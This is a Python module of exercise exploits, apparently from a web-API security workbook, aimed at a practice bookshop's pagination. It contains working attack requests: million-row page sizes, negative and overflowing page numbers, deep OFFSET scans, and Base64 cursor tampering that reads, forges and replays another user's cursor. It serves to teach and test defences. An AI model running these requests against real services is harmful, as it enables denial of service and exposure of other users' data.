"""What people do to a shop whose lists have pages: the exploits of chapter 4, by the exercise whose defence they try.

    GET /api/books/by-offset?page_size=1000000        all there is, in one answer
    GET /api/books/by-offset?page=12000&page_size=1   12,000 rows counted off, for one book
    GET /api/books?cursor=W2ZhbHNlLCAyMF0             [false, 20] in Base64: what may stand there instead?

An attacker has what any client has: pages, and the cursors that they name. A cursor is a text; whether one can read it,
change it, or use it elsewhere, nobody says, so it is tried.
"""

import re
from base64 import urlsafe_b64decode, urlsafe_b64encode

import httpx

from workbook.learn.exploits import Crashed, Failure, Loot, Outcome, Stopped, excerpt, expect, exploit, stopped_by
from workbook.learn.shop import Shop

BY_OFFSET, BY_KEYSET = "/api/books/by-offset", "/api/books/by-keyset"
RIVAL = {"title": "The Voyage Out"}
MANY = 12_000  # books: with so many, some are deeper than an honest page
WRONG_WAY = (-1, -2, -3, -1000, -1_000_000)  # numbers of pages
BOMBS = ("9223372036854775808", "99999999999999999999")  # the first that has no room in 64 bits, and more
ODD_KEYS = ("null", "{}", "[]", '"x"', "true", "1e400", "99999999999999999999")  # in the place of a number


# 4.1 How much, and from where on --------------------------------------------------------------------------------------


@exploit("4.1", "API4", "the whole catalogue, in one page")
def take_everything(shop: Shop) -> Outcome:
    """One request, and as much work for the shop as it has books."""
    scraper = shop.client()
    honest = expect(scraper.get(BY_OFFSET))
    answer = scraper.get(BY_OFFSET, params={"page_size": 1_000_000})
    if answer.status_code != 200:
        return stopped_by(answer)
    found = len(answer.json()["items"])
    if found <= 100:
        return Stopped(f"a page of a million has {found} books")
    size = len(answer.content)
    return Loot(f"all {found} books in one answer of {size:,} bytes, where a page has {len(honest.content):,}")


@exploit("4.1", "API4", "one page, under numbers without end")
def ask_for_pages_before_the_first(shop: Shop) -> Outcome:
    """A cache in front of the shop keeps what it has seen, by its address. Each of these is a new one."""
    scraper = shop.client()
    first = expect(scraper.get(BY_OFFSET, params={"page": 1})).json()["items"]
    same = []
    for number in WRONG_WAY:
        answer = scraper.get(BY_OFFSET, params={"page": number})
        if answer.status_code == 200 and answer.json()["items"] == first:
            same.append(number)
    if same:
        return Loot(
            f"pages {', '.join(map(str, same))} are page 1: no cache has them, and there are as many as one likes"
        )
    return stopped_by(answer)


@exploit("4.1", "API4", "a page that is counted off, row by row")
def dig_deep(shop: Shop) -> Outcome:
    """The database reads what comes before the page, and throws it away. What that costs, it says in its own steps."""
    shop.grow(MANY)
    scraper = shop.client()
    expect(scraper.get(BY_OFFSET, params={"page": 2, "page_size": 1}))
    answer = scraper.get(BY_OFFSET, params={"page": MANY, "page_size": 1})
    if answer.status_code != 200:
        return stopped_by(answer)
    first, deep = (shop.steps(f"SELECT * FROM books ORDER BY id LIMIT 1 OFFSET {rows}") for rows in (0, MANY - 1))
    (book,) = answer.json()["items"]
    return Loot(f"{book['title']!r}: OFFSET {MANY - 1} takes SQLite {deep:,} steps, where the first page takes {first}")


@exploit("4.1", "API4", "a number that breaks the server")
def ask_for_a_page_beyond_numbers(shop: Shop) -> Outcome:
    """Python's numbers have no end. Those of a database have one."""
    scraper = shop.client()
    expect(scraper.get(BY_OFFSET))
    lines, broken = len(shop.log()), []
    for number in BOMBS:
        try:
            answer = scraper.get(BY_OFFSET, params={"page": number})
        except Crashed:
            broken.append(number)
    if broken:
        return Loot(f"500 for page={' and '.join(broken)}, and the log is {len(shop.log()) - lines} lines longer")
    return stopped_by(answer)


# 4.2 What is seen ----------------------------------------------------------------------------------------------------


@exploit("4.2", "ASVS 2", "namesakes push a book off every page")
def hide_a_book(shop: Shop) -> Outcome:
    """A page ends in the middle of them. Who goes on after the title, and not after the book, leaves out the others."""
    supplier, reader = shop.sign_in("admin"), shop.client()
    hidden = expect(supplier.post("/api/books", json=RIVAL | {"author": "A competitor"}), 201).json()["id"]
    for number in range(20):
        expect(supplier.post("/api/books", json=RIVAL | {"author": f"Mallory {number}"}), 201)
    seen, query = [], {"sort": "title", "dir": "desc", "page_size": "20"}
    while True:
        page = expect(reader.get(BY_KEYSET, params=query)).json()
        seen += page["items"]
        if not page["has_more"]:
            break
        query |= {f"after_{name}": str(value) for name, value in page["after"].items()}
    namesakes = [book["author"] for book in seen if book["title"] == RIVAL["title"]]
    if hidden not in [book["id"] for book in seen]:
        return Loot(f"of 21 books called {RIVAL['title']!r} a reader finds {len(namesakes)}, and not the competitor's")
    return Stopped(f"of 21 books called {RIVAL['title']!r} a reader finds {len(namesakes)}")


# 4.3 What a cursor is good for ----------------------------------------------------------------------------------------


@exploit("4.3", "API8", "a cursor, rewritten, begins elsewhere")
def rewrite_a_cursor(shop: Shop) -> Outcome:
    """The last number in it is changed. An app that says where to read on wants to be the one that says it."""
    reader = shop.client()
    cursor = first_cursor(reader, "/api/books", page_size=5)
    honest = expect(reader.get("/api/books", params={"page_size": 5, "cursor": cursor})).json()["items"]
    answer = reader.get("/api/books", params={"page_size": 5, "cursor": with_number(cursor, "100")})
    if answer.status_code == 200:
        found = answer.json()["items"]
        return Loot(
            f"the cursor was {content(cursor)}; with 100 in it, the page begins with book {found[0]['id']} "
            f"instead of {honest[0]['id']}"
        )
    return stopped_by(answer)


@exploit("4.3", "API8", "what is no number, in the place of one")
def break_the_database(shop: Shop) -> Outcome:
    """What stands in a cursor goes to the database, and nobody looks at it: the app believes that it is its own."""
    reader = shop.client()
    cursor = first_cursor(reader, "/api/books")
    lines, broken = len(shop.log()), []
    for key in ODD_KEYS:
        try:
            answer = reader.get("/api/books", params={"cursor": with_number(cursor, key)})
        except Crashed:
            broken.append(key)
    if broken:
        return Loot(f"500 for {', '.join(broken)}, and the log is {len(shop.log()) - lines} lines longer")
    return stopped_by(answer)


@exploit("4.3", "API8", "a place in one list, used in another")
def use_a_cursor_elsewhere(shop: Shop) -> Outcome:
    """Titles are no authors. Where both are texts, who does not look takes the one for the other: books are missing."""
    reader = shop.client()
    cursor = first_cursor(reader, "/api/books", sort="title", page_size=50)
    complete = walked(reader, sort="author")
    answer = reader.get("/api/books", params={"sort": "author", "page_size": 50, "cursor": cursor})
    if answer.status_code != 200:
        return stopped_by(answer)
    rest = walked(reader, answer, sort="author")
    missing = [author for author in complete if author not in rest]
    return Loot(f"the list by author begins at {rest[0]!r}: {len(missing)} authors are not in it, such as {missing[0]}")


@exploit("4.3", "API1", "alice's cursor, in bob's hands")
def use_a_cursor_of_somebody_else(shop: Shop) -> Outcome:
    """It stood in a log. It is a place on her shelf, which is private; bob's shelf is another list."""
    alice, bob = shop.sign_in("alice"), shop.sign_in("bob")
    hers, his = (shelf_with(person, range(1, 10)) for person in (alice, bob))
    cursor = first_cursor(alice, hers, page_size=4)
    complete = expect(bob.get(his)).json()["items"]
    answer = bob.get(his, params={"cursor": cursor})
    if answer.status_code == 200:
        found = answer.json()["items"]
        return Loot(
            f"it is taken, and says {content(cursor)}: alice has read as far as {complete[3]['title']!r}; "
            f"of his own {len(complete)} books bob is shown {len(found)}"
        )
    return stopped_by(answer)


# 4.4 What happened ----------------------------------------------------------------------------------------------------


@exploit("4.4", "ASVS 2", "what happens on the stroke is counted twice")
def count_twice(shop: Shop) -> Outcome:
    """Whoever is paid by the change sees to it that it happens when one window ends and the next one begins."""
    bookkeeper = shop.client()
    event = expect(bookkeeper.get("/api/activity")).json()["items"][3]
    before = {"since": "2000-01-01T00:00:00Z", "until": event["at"], "page_size": 100}
    after = {"since": event["at"], "page_size": 100}
    counted = 0
    for window in (before, after):
        items = expect(bookkeeper.get("/api/activity", params=window)).json()["items"]
        counted += [item["book"]["id"] for item in items].count(event["book"]["id"])
    title = excerpt(event["book"]["title"])
    if counted > 1:
        return Loot(f"{title!r} was {event['kind']} at {event['at']}, and is in two windows side by side")
    return Stopped(f"{title!r} was {event['kind']} at {event['at']}, and is in {counted} of two windows side by side")


# 4.5 Where links lead -------------------------------------------------------------------------------------------------


@exploit("4.5", "ASVS 2", "a list for children, whose next page is not")
def follow_a_link_out_of_the_list(shop: Shop) -> Outcome:
    """A front end shows one genre, and follows `next`. What the link does not say is not asked any more."""
    reader = shop.client()
    first = expect(reader.get(BY_OFFSET, params={"genre": "children", "page_size": 5})).json()
    following = first["_links"]["next"]["href"]
    found = expect(reader.get(following)).json()["items"]
    others = [book for book in found if "children" not in book["genres"]]
    if others:
        book, genres = others[0], ", ".join(others[0]["genres"])
        return Loot(f"{following} has {len(others)} books for others, such as {excerpt(book['title'])!r} ({genres})")
    return Stopped(f"{following} has {len(found)} books, all of them for children")


# What they have in common ---------------------------------------------------------------------------------------------


def first_cursor(reader: httpx.Client, path: str, **query: str | int) -> str:
    """The cursor that the first page of a list names."""
    found = expect(reader.get(path, params=query)).json()["next_cursor"]
    if not isinstance(found, str):
        raise Failure(f"GET {path} names no next page")
    return found


def opened(cursor: str) -> bytes:
    """What is in a cursor, if it is Base64: everybody can look."""
    return urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4))


def content(cursor: str) -> str:
    """What can be read of a cursor."""
    return opened(cursor).decode("ascii", "replace")


def with_number(cursor: str, text: str) -> str:
    """The cursor, with `text` in the place of the last number in it."""
    changed = re.sub(rb"[0-9]+(?=[^0-9]*$)", text.encode(), opened(cursor), count=1)
    return urlsafe_b64encode(changed).rstrip(b"=").decode()


def walked(reader: httpx.Client, answer: httpx.Response | None = None, **query: str | int) -> list[str]:
    """The authors in a list, from `answer` on, to its end."""
    authors: list[str] = []
    answer = answer or reader.get("/api/books", params={**query, "page_size": 50})
    while True:
        page = expect(answer).json()
        authors += [book["author"] for book in page["items"]]
        if not page["next_cursor"]:
            return authors
        answer = reader.get("/api/books", params={**query, "page_size": 50, "cursor": page["next_cursor"]})


def shelf_with(person: httpx.Client, books: range) -> str:
    """The address of the books on a new shelf of this person's."""
    shelf = expect(person.post("/api/shelves", json={"name": "To read"}), 201).headers["Location"]
    for book in books:
        expect(person.put(f"{shelf}/books/{book}"), 204)
    return f"{shelf}/books"
